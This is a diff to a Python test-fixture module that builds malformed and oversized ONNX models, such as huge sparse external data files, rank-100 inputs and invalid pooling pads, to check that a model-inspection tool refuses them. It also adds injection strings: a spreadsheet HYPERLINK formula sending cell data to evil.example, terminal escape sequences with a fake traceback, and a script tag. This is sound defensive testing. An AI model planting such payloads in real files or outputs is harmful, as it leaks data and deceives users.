@@ -259,6 +259,34 @@ def _(path, root):
     path.write_bytes(mlp_external("w.bin", length=1_000_000).SerializeToString())
 
 
+#: size of the sparse data file of ``ext_no_length_huge`` (no disk blocks are written)
+SPARSE_BYTES = 4 << 30
+
+
+def mlp_external_no_length(location: str, offset: int = 0) -> onnx.ModelProto:
+    """The MLP with W1 at ``location`` and no ``length`` entry (ONNX: "to the end of the file")."""
+    m = mlp_external(location, offset=offset)
+    entries = [e for e in init(m, "W1").external_data if e.key != "length"]
+    del init(m, "W1").external_data[:]
+    init(m, "W1").external_data.extend(entries)
+    return m
+
+
+@ext("ext_no_length_ok", 0, '"norms"', "control: no length entry, the file holds exactly W1's 48 bytes after the offset")
+def _(path, root):
+    path.with_name("w.bin").write_bytes(b"\0" * 16 + W1.tobytes())
+    path.write_bytes(mlp_external_no_length("w.bin", offset=16).SerializeToString())
+
+
+@ext("ext_no_length_huge", 4, f"is {SPARSE_BYTES} bytes, and without a length entry must be 48",
+     "no length entry and a 4 GiB sparse file: refused from its size, nothing read")
+def _(path, root):
+    with open(path.with_name("huge.bin"), "wb") as f:
+        f.write(W1.tobytes())
+        f.truncate(SPARSE_BYTES)
+    path.write_bytes(mlp_external_no_length("huge.bin").SerializeToString())
+
+
 @ext("ext_huge_declared", 4, "tensor 'W1' declares 1000000000000 elements", "1e12 elements claimed, refused before reading")
 def _(path, root):
     path.with_name("w.bin").write_bytes(W1.tobytes())
@@ -558,6 +586,70 @@ proto("symbolic_dims", 2, "pass --input-shape", "a symbolic feature dimension", 
 
 proto("long_chain", 0, '"norms"', "20000 Relu nodes in a row", lambda: model(
     [helper.make_node("Relu", [f"t{i}" if i else "x"], [f"t{i + 1}" if i < 19999 else "y"]) for i in range(20000)]))
+
+
+# ---- ranks and attributes numpy or onnxruntime would choke on ------------------------------
+
+proto("rank_100_input", 4, "tensor 'x' has rank 100 (limit 32)", "an input of rank 100 (numpy stops at 64 dimensions)",
+      lambda: model([helper.make_node("Relu", ["x"], ["y"], name="relu")], inputs=[("x", [1] * 100)]))
+proto("avgpool_pads_over_kernel", 4, "its pads [2, 2, 2, 2] are not all smaller than its kernel [2, 2]",
+      "AveragePool with pads >= kernel (onnxruntime refuses it with a coloured multi-line log)",
+      lambda: model([helper.make_node("AveragePool", ["x"], ["p"], name="pool", kernel_shape=[2, 2], pads=[2, 2, 2, 2]),
+                     helper.make_node("Relu", ["p"], ["y"], name="relu")], inputs=[("x", [1, 1, 4, 4])]))
+proto("wide_sum_over_limit", 4, "has 5000 inputs (limit 4096)", "a Sum of 5000 operands (time grows with them)",
+      lambda: wide_sum(5000))
+proto("many_io_over_limit", 4, "the graph has 3000 inputs and 3000 outputs (limit 4096 in all)",
+      "3000 inputs and outputs (onnxruntime's session build grows faster than linearly with them)", lambda: many_io(3000))
+
+#: model-supplied strings that try to inject: a spreadsheet formula, a fake traceback line, ANSI
+#: colour, an OSC sequence setting the terminal title, HTML (tests/test_hostile_io.py)
+INJECTIONS = {"producer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+              "node": "tanh\nTraceback (most recent call last):\n  fake\x1b[31mRED\x1b]0;pwned\x07",
+              "doc": "<script>alert(1)</script>"}
+
+
+def injecting() -> onnx.ModelProto:
+    """The MLP with a Tanh (refused: its name reaches the error message) named, and a producer set,
+    with the :data:`INJECTIONS` strings."""
+    m = mlp()
+    m.graph.node[1].op_type, m.graph.node[1].name = "Tanh", INJECTIONS["node"]
+    m.producer_name, m.producer_version = INJECTIONS["producer"], INJECTIONS["doc"]
+    return m
+
+
+def special_entries(folder: Path) -> dict[str, str]:
+    """``*.onnx`` entries in ``folder`` that are not regular files, with the reason an audit must
+    report for each: a FIFO (reading it would block) and a dangling symlink (POSIX only)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    os.mkfifo(folder / "fifo.onnx")
+    os.symlink(folder / "gone.onnx", folder / "dangling.onnx")
+    return {"fifo.onnx": "not a regular file (a FIFO)", "dangling.onnx": "a dangling symbolic link"}
+
+
+# ---- scale: built at any size n (tests/test_hostile_io.py, tools/scaling.py) -----------------
+
+
+def wide_sum(n: int) -> onnx.ModelProto:
+    """y = Relu(Sum(x, x, ..., x)): one Sum node with ``n`` inputs (a 1.2 MB file at n = 100k)."""
+    return model([helper.make_node("Sum", ["x"] * n, ["s"], name="sum"), helper.make_node("Relu", ["s"], ["y"])])
+
+
+def gemm_chain(n: int) -> onnx.ModelProto:
+    """``n`` Gemm nodes in a row, each 4 → 4 with the same weight and a Relu-free path (2 KB + 30 B/node)."""
+    w = np.eye(4, dtype=np.float32)
+    nodes = [helper.make_node("Gemm", [f"t{i}" if i else "x", "W"], [f"t{i + 1}" if i < n - 1 else "y"], name=f"g{i}")
+             for i in range(n)]
+    return model(nodes, inits={"W": w})
+
+
+def many_io(n: int) -> onnx.ModelProto:
+    """``n`` graph inputs, each through its own Relu to its own graph output."""
+    nodes = [helper.make_node("Relu", [f"x{i}"], [f"y{i}"]) for i in range(n)]
+    return model(nodes, inputs=[(f"x{i}", [1, 2]) for i in range(n)], outputs=[(f"y{i}", None) for i in range(n)])
+
+
+#: the scale builders, by name
+SCALE = {"wide_sum": wide_sum, "gemm_chain": gemm_chain, "many_io": many_io}
 
 
 # --------------------------------------------------------------------------------------------
